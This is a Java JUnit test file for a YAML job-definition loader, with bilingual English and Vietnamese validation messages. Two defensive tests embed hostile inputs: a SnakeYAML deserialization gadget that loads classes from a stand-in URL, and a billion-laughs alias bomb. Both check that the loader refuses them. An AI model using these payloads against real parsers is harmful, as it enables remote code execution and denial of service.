package vn.ruralstat.jobdef;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.assertj.core.groups.Tuple.tuple;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.ZoneId;
import java.util.Collections;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import vn.ruralstat.message.Message;

class JobDefinitionsTest {

    @TempDir
    Path project;

    private Path jobs;

    @BeforeEach
    void jobsFolder() throws IOException {
        jobs = Files.createDirectory(project.resolve("jobs"));
    }

    // ---- what loads, and the defaults ----

    @Test
    void aConsolidationNeedsOnlyItsKindInputAndOutput() {
        write(
                "nightly.yaml",
                """
                kind: consolidation
                input: input
                output: output
                """);

        JobDefinition job = single();

        assertThat(job.name()).isEqualTo("nightly");
        assertThat(job.isScheduled()).isFalse();
        assertThat(job.enabled()).isTrue();
        assertThat(job.options()).isEqualTo(new JobDefinition.Options(true, true, null, ZoneId.of("Asia/Ho_Chi_Minh")));
    }

    @Test
    void relativePathsResolveAgainstTheFolderHoldingJobs() {
        write(
                "nightly.yaml",
                """
                kind: consolidation
                input: ../drop/./xa
                output: /srv/reports
                """);

        JobDefinition job = single();

        assertThat(job.input()).isEqualTo(project.getParent().resolve("drop/xa"));
        assertThat(job.output()).isEqualTo(Path.of("/srv/reports"));
    }

    @Test
    void aNameKeyOverridesTheFileName() {
        write(
                "tom-tat.yml",
                """
                name: summary-cao-bang
                kind: summary
                units: [Cao Bằng]
                periods: [2025, "2022 - 2025"]
                output: output/cao-bang
                enabled: no
                options:
                  annotatedCopies: false
                  province: cao-bang
                  timeZone: UTC
                """);

        JobDefinition job = single();

        assertThat(job.name()).isEqualTo("summary-cao-bang");
        assertThat(job.periods()).containsExactly(YearRange.of(2025), new YearRange(2022, 2025));
        assertThat(job.enabled()).isFalse();
        assertThat(job.options()).isEqualTo(new JobDefinition.Options(false, false, "cao-bang", ZoneId.of("UTC")));
    }

    @Test
    void readmeHiddenFilesAndOtherFilesAreNotRead() {
        write("README.md", "# not YAML: {");
        write(".nightly.yaml", "kind: nonsense");
        write("nightly.yaml.bak", "kind: nonsense");
        write("a.yml", "kind: consolidation\ninput: in\noutput: out\n");
        write("b.YAML", "kind: consolidation\ninput: in\noutput: out/b\n");

        assertThat(JobDefinitions.load(jobs)).extracting(JobDefinition::name).containsExactly("a", "b");
    }

    @Test
    void unitNamesAreKeptInUnicodeNfc() {
        write("s.yaml", "kind: summary\nunits: [\"Qua\u0309ng Ho\u0300a\"]\nperiods: [2025]\noutput: out\n");

        assertThat(single().units()).containsExactly("Quảng Hòa");
    }

    // ---- each kind's required keys ----

    @Test
    void aConsolidationWithoutInputSaysSo() {
        write("nightly.yaml", "kind: consolidation\noutput: output\n");

        assertThat(onlyProblem().message())
                .isEqualTo("jobs/nightly.yaml: key 'input': missing; expected the folder a "
                        + "consolidation reads, e.g. input: input / khóa 'input': thiếu; cần thư mục đầu vào của công việc tổng "
                        + "hợp, ví dụ input: input");
    }

    @Test
    void aSummaryNeedsUnitsAndPeriods() {
        write("s.yaml", "kind: summary\noutput: out\n");

        assertThat(problems()).extracting(JobDefinitionProblem::key).containsExactly("units", "periods");
    }

    @Test
    void aReviewNeedsUnitsAndBothYears() {
        write(
                "r.yaml",
                """
                kind: review
                output: out
                periods:
                  from: 2021
                """);

        assertThat(problems()).extracting(JobDefinitionProblem::key).containsExactly("units", "periods.to");
    }

    @Test
    void aReviewTakesItsOwnCrosswalkWhenTheFileIsAValidCrosswalk() throws IOException {
        Files.writeString(
                project.resolve("ranh-gioi.csv"),
                "effective_date,old_unit,old_parent,new_unit,new_parent,share,"
                        + "confidence,legal_basis,source,note\n2025-07-01,Xã A,huyện H,Xã B,tỉnh T,1,verbatim,,,\n");
        write(
                "r.yaml",
                """
                kind: review
                output: out
                units: [B]
                periods: {from: 2024, to: 2025}
                crosswalk: ranh-gioi.csv
                """);

        assertThat(single().crosswalk()).isEqualTo(project.resolve("ranh-gioi.csv"));
    }

    @Test
    void aCrosswalkThatIsMissingOrBrokenIsRefusedAtStartUp() throws IOException {
        Files.writeString(project.resolve("broken.csv"), "effective_date,old_unit\n2025-07-01,Xã A\n");
        write(
                "r.yaml",
                """
                kind: review
                output: out
                units: [B]
                periods: {from: 2024, to: 2025}
                crosswalk: broken.csv
                """);
        write(
                "s.yaml",
                """
                kind: summary
                output: out
                units: [B]
                periods: [2025]
                crosswalk: broken.csv
                """);

        List<JobDefinitionProblem> problems = problems();

        assertThat(problems).extracting(JobDefinitionProblem::key).containsExactly("crosswalk", "crosswalk");
        assertThat(problems.get(0).english()).contains("missing column(s)").contains("new_unit");
        assertThat(problems.get(1).problem().key()).isEqualTo("jobdef.key.notUsed");
        assertThat(problems.get(1).problem().arguments()).startsWith("summary");
    }

    @Test
    void aJobWithoutKindSaysWhichKindsThereAre() {
        write("x.yaml", "output: out\n");

        assertThat(onlyProblem().message())
                .isEqualTo("jobs/x.yaml: key 'kind': missing; expected what the job does: "
                        + "one of consolidation, summary, review / khóa 'kind': thiếu; cần loại công việc: một trong "
                        + "consolidation, summary, review");
    }

    @Test
    void aKindMisspelledIsSuggested() {
        write("x.yaml", "kind: consolidate\ninput: in\noutput: out\n");

        assertThat(onlyProblem().problem())
                .isEqualTo(Message.of(
                        "jobdef.kind.unknown.meant", "consolidate", "consolidation, summary, review", "consolidation"));
    }

    @Test
    void keysAnotherKindNeedsAreErrorsNotSilentlyIgnored() {
        write(
                "s.yaml",
                """
                kind: summary
                input: input
                units: [Quảng Hòa]
                periods: [2025]
                output: out
                options:
                  incremental: true
                """);

        assertThat(problems())
                .extracting(JobDefinitionProblem::line, JobDefinitionProblem::key)
                .containsExactly(tuple(2, "input"), tuple(7, "options.incremental"));
        assertThat(problems().get(0).problem())
                .isEqualTo(Message.of("jobdef.key.notUsed", "summary", Message.of("jobdef.why.readsDatabase")));
    }

    // ---- the problems an operator makes ----

    @Test
    void aCronExpressionWithFourFieldsNamesTheFileTheKeyAndTheFormat() {
        write(
                "nightly.yaml",
                """
                kind: consolidation
                input: input
                output: output
                schedule: 0 2 * *
                """);

        JobDefinitionProblem problem = onlyProblem();

        assertThat(problem.file()).isEqualTo("jobs/nightly.yaml");
        assertThat(problem.line()).isEqualTo(4);
        assertThat(problem.key()).isEqualTo("schedule");
        assertThat(problem.message())
                .startsWith(
                        "jobs/nightly.yaml line 4: key 'schedule': '0 2 * *' is not a cron "
                                + "expression (6 fields: second minute hour day month weekday, e.g. '0 0 2 * * *' = 02:00 every day)")
                .contains(" / dòng 4: khóa 'schedule': '0 2 * *' không phải biểu thức cron (6 trường: giây phút giờ "
                        + "ngày tháng thứ");
    }

    @Test
    void aFiveFieldSystemCronLineGetsItsSpringFormSuggested() {
        write("nightly.yaml", "kind: consolidation\ninput: in\noutput: out\nschedule: \"30 7 * * MON-FRI\"\n");

        assertThat(onlyProblem().problem().key()).isEqualTo("jobdef.cron.systemCrontab");
        assertThat(onlyProblem().problem().arguments()).endsWith("0 30 7 * * MON-FRI");
    }

    @Test
    void anUnknownKeyNamesTheKeyItProbablyMeant() {
        write(
                "nightly.yaml",
                """
                kind: consolidation
                input: input
                output: output
                shedule: "0 0 2 * * *"
                """);

        assertThat(onlyProblem().message())
                .isEqualTo(
                        "jobs/nightly.yaml line 4: key 'shedule': unknown key; did you "
                                + "mean 'schedule'? / dòng 4: khóa 'shedule': khóa không có trong định nghĩa; có phải là 'schedule'?");
    }

    @Test
    void aMisspelledRequiredKeyIsReportedOnceAsATypoNotAlsoAsMissing() {
        write("nightly.yaml", "kind: consolidation\ninput: input\nouptut: output\n");

        assertThat(onlyProblem().problem()).isEqualTo(Message.of("jobdef.key.unknown.meant", "output"));
    }

    @Test
    void anUnknownKeyFarFromAnyListsTheKeys() {
        write("nightly.yaml", "kind: consolidation\ninput: in\noutput: out\noptions:\n  colour: red\n");

        JobDefinitionProblem problem = onlyProblem();

        assertThat(problem.key()).isEqualTo("options.colour");
        assertThat(problem.problem())
                .isEqualTo(Message.of("jobdef.key.unknown", "incremental, annotatedCopies, province, timeZone"));
    }

    @Test
    void aMissingOutputIsReportedForEveryKind() {
        write("nightly.yaml", "kind: consolidation\ninput: input\n");

        assertThat(onlyProblem().message())
                .isEqualTo("jobs/nightly.yaml: key 'output': missing; expected the folder "
                        + "the job writes into, e.g. output: output/tom-tat / khóa 'output': thiếu; cần thư mục ghi kết quả, "
                        + "ví dụ output: output/tom-tat");
    }

    @Test
    void anOutputWrittenWithoutAValueIsPlacedOnItsLine() {
        write("nightly.yaml", "kind: consolidation\ninput: input\noutput:\n");

        JobDefinitionProblem problem = onlyProblem();

        assertThat(problem.line()).isEqualTo(3);
        assertThat(problem.problem()).isEqualTo(Message.of("jobdef.key.noValue", Message.of("jobdef.expect.output")));
    }

    @Test
    void anOutputInsideTheInputIsRefused() {
        write("nightly.yaml", "kind: consolidation\ninput: input\noutput: input/reports\n");

        JobDefinitionProblem problem = onlyProblem();

        assertThat(problem.key()).isEqualTo("output");
        assertThat(problem.problem().key()).isEqualTo("jobdef.output.insideInput");
    }

    @Test
    void twoFilesGivingTheSameNameAreReportedOnTheSecond() {
        write("nightly.yaml", "kind: consolidation\ninput: in\noutput: out\n");
        write("old-nightly.yaml", "name: nightly\nkind: consolidation\ninput: in\noutput: out\n");

        JobDefinitionProblem problem = onlyProblem();

        assertThat(problem.message())
                .isEqualTo("jobs/old-nightly.yaml line 1: key 'name': the job name 'nightly' is "
                        + "already used by jobs/nightly.yaml; each job needs its own name (the file name, or name:) / "
                        + "dòng 1: khóa 'name': tên công việc 'nightly' đã dùng ở jobs/nightly.yaml; mỗi công việc cần "
                        + "một tên riêng (tên tệp hoặc name:)");
    }

    @Test
    void aYamlAndAYmlFileOfTheSameNameAreDuplicates() {
        write("nightly.yaml", "kind: consolidation\ninput: in\noutput: out\n");
        write("nightly.yml", "kind: consolidation\ninput: in\noutput: out\n");

        JobDefinitionProblem problem = onlyProblem();

        assertThat(problem.file()).isEqualTo("jobs/nightly.yml");
        assertThat(problem.key()).isEqualTo("name");
        assertThat(problem.line()).as("the name comes from the file name").isZero();
    }

    @Test
    void anEmptyListOfUnitsIsRefused() {
        write("s.yaml", "kind: summary\nunits: []\nperiods: [2025]\noutput: out\n");

        assertThat(onlyProblem().message())
                .startsWith("jobs/s.yaml line 2: key 'units': found an empty list; expected a " + "list of unit names");
    }

    @Test
    void aReviewFromAfterToIsRefused() {
        write(
                "review.yaml",
                """
                kind: review
                units: [Quảng Hòa]
                output: out
                periods:
                  from: 2025
                  to: 2021
                """);

        assertThat(onlyProblem().message())
                .isEqualTo("jobs/review.yaml line 5: key 'periods': from 2025 is after to "
                        + "2021; expected from ≤ to / dòng 5: khóa 'periods': from 2025 sau to 2021; cần from ≤ to");
    }

    @Test
    void aSummaryPeriodThatIsNotAYearOrRangeIsRefused() {
        write("s.yaml", "kind: summary\nunits: [Ngân Sơn]\noutput: out\nperiods:\n  - 2025\n  - năm ngoái\n");

        JobDefinitionProblem problem = onlyProblem();

        assertThat(problem.line()).isEqualTo(6);
        assertThat(problem.key()).isEqualTo("periods");
        assertThat(problem.problem())
                .isEqualTo(Message.of(
                        "jobdef.found",
                        Message.of("jobdef.found.value", "năm ngoái"),
                        Message.of("jobdef.expect.period")));
    }

    @Test
    void aTimeZoneThatDoesNotExistIsRefused() {
        write(
                "nightly.yaml",
                """
                kind: consolidation
                input: in
                output: out
                options:
                  timeZone: Asia/Hanoi
                """);

        assertThat(onlyProblem().message())
                .isEqualTo("jobs/nightly.yaml line 5: key 'options.timeZone': 'Asia/Hanoi' "
                        + "is not a time zone; expected a region such as Asia/Ho_Chi_Minh or an offset such as +07:00 / dòng 5: "
                        + "khóa 'options.timeZone': 'Asia/Hanoi' không phải múi giờ; cần tên vùng như Asia/Ho_Chi_Minh hoặc độ "
                        + "lệch như +07:00");
    }

    @Test
    void aProvinceWrittenAsANameGetsItsFileNameSuggested() {
        write(
                "s.yaml",
                "kind: summary\nunits: [Quảng Hòa]\nperiods: [2025]\noutput: out\n"
                        + "options:\n  province: Tỉnh Cao Bằng\n");

        JobDefinitionProblem problem = onlyProblem();

        assertThat(problem.key()).isEqualTo("options.province");
        assertThat(problem.problem().key()).isEqualTo("jobdef.province.invalid.meant");
        assertThat(problem.problem().arguments()).endsWith("cao-bang");
    }

    @Test
    void aWordYamlReadsAsABooleanIsExplained() {
        write("s.yaml", "kind: summary\nunits: [\"yes\", no]\nperiods: [2025]\noutput: out\n");

        JobDefinitionProblem problem = onlyProblem();

        assertThat(problem.key()).isEqualTo("units");
        assertThat(problem.problem().key()).isEqualTo("jobdef.foundBoolean");
        assertThat(problem.problem().arguments()).startsWith("no");
    }

    @Test
    void aKeyWrittenTwiceIsReportedWithTheFirstLine() {
        write("nightly.yaml", "kind: consolidation\ninput: in\noutput: out\ninput: drop\n");

        assertThat(onlyProblem().message())
                .startsWith("jobs/nightly.yaml line 4: key 'input': written twice (first on line 2)");
    }

    @Test
    void aYamlSyntaxErrorGivesTheFileAndLine() {
        write(
                "nightly.yaml",
                """
                kind: consolidation
                input: input
                output: "output
                schedule: "0 0 2 * * *"
                """);

        JobDefinitionProblem problem = onlyProblem();

        assertThat(problem.file()).isEqualTo("jobs/nightly.yaml");
        assertThat(problem.line()).isEqualTo(4);
        assertThat(problem.key()).isNull();
        assertThat(problem.message()).startsWith("jobs/nightly.yaml line 4: YAML syntax error, column ");
    }

    @Test
    void aBadIndentIsASyntaxErrorOnItsLine() {
        write("review.yaml", "kind: review\nperiods:\n  from: 2021\n to: 2025\n");

        JobDefinitionProblem problem = onlyProblem();

        assertThat(problem.line()).isEqualTo(4);
        assertThat(problem.message()).contains("YAML syntax error", "lỗi cú pháp YAML");
    }

    @Test
    void typesFromTagsAreNeverBuilt() {
        write(
                "evil.yaml",
                "kind: consolidation\ninput: in\noutput: !!javax.script.ScriptEngineManager "
                        + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]\n");

        List<JobDefinitionProblem> problems = problems();

        assertThat(problems).isNotEmpty().allSatisfy(p -> assertThat(p.file()).isEqualTo("jobs/evil.yaml"));
        assertThat(problems.get(0).line()).isEqualTo(3);
    }

    @Test
    void aBillionLaughsOfAliasesIsRefusedBeforeItGrows() {
        StringBuilder yaml = new StringBuilder("kind: consolidation\ninput: in\noutput: out\na: &a [lol, lol, lol]\n");
        String previous = "a";
        for (String level : List.of("b", "c", "d", "e", "f", "g", "h", "i", "j")) {
            yaml.append(level)
                    .append(": &")
                    .append(level)
                    .append(" [")
                    .append(String.join(", ", Collections.nCopies(9, "*" + previous)))
                    .append("]\n");
            previous = level;
        }
        write("bomb.yaml", yaml.toString());

        assertThat(onlyProblem().message()).startsWith("jobs/bomb.yaml: cannot be read as YAML: Number of aliases");
    }

    @Test
    void aFileThatIsNotUtf8IsNamed() {
        writeBytes("nightly.yaml", "kind: summary\nunits: [Qu\u1EA3ng H\u00F2a]\n".getBytes(StandardCharsets.UTF_16LE));

        assertThat(onlyProblem().problem()).isEqualTo(Message.of("jobdef.file.notUtf8"));
    }

    @Test
    void anEmptyFileSaysWhatAJobNeeds() {
        write("nightly.yaml", "# nothing yet\n");

        assertThat(onlyProblem().message())
                .isEqualTo("jobs/nightly.yaml: the file is empty; a job needs at least kind: "
                        + "and output: / tệp trống; công việc cần ít nhất kind: và output:");
    }

    @Test
    void aMissingJobsFolderIsOneProblem() {
        InvalidJobDefinitionException e = catchThrowableOfType(
                InvalidJobDefinitionException.class, () -> JobDefinitions.load(project.resolve("job")));

        assertThat(e.problems())
                .singleElement()
                .extracting(JobDefinitionProblem::file)
                .isEqualTo("job");
    }

    @Test
    void anEmptyJobsFolderHasNoJobs() {
        assertThat(JobDefinitions.load(jobs)).isEmpty();
    }

    // ---- helpers ----

    private void write(String name, String yaml) {
        writeBytes(name, yaml.getBytes(StandardCharsets.UTF_8));
    }

    private void writeBytes(String name, byte[] bytes) {
        try {
            Files.write(jobs.resolve(name), bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private JobDefinition single() {
        List<JobDefinition> loaded = JobDefinitions.load(jobs);
        assertThat(loaded).hasSize(1);
        return loaded.get(0);
    }

    private List<JobDefinitionProblem> problems() {
        InvalidJobDefinitionException e =
                catchThrowableOfType(InvalidJobDefinitionException.class, () -> JobDefinitions.load(jobs));
        assertThat(e).as("an InvalidJobDefinitionException").isNotNull();
        return e.problems();
    }

    private JobDefinitionProblem onlyProblem() {
        List<JobDefinitionProblem> problems = problems();
        assertThat(problems).as(problems.toString()).hasSize(1);
        return problems.get(0);
    }
}
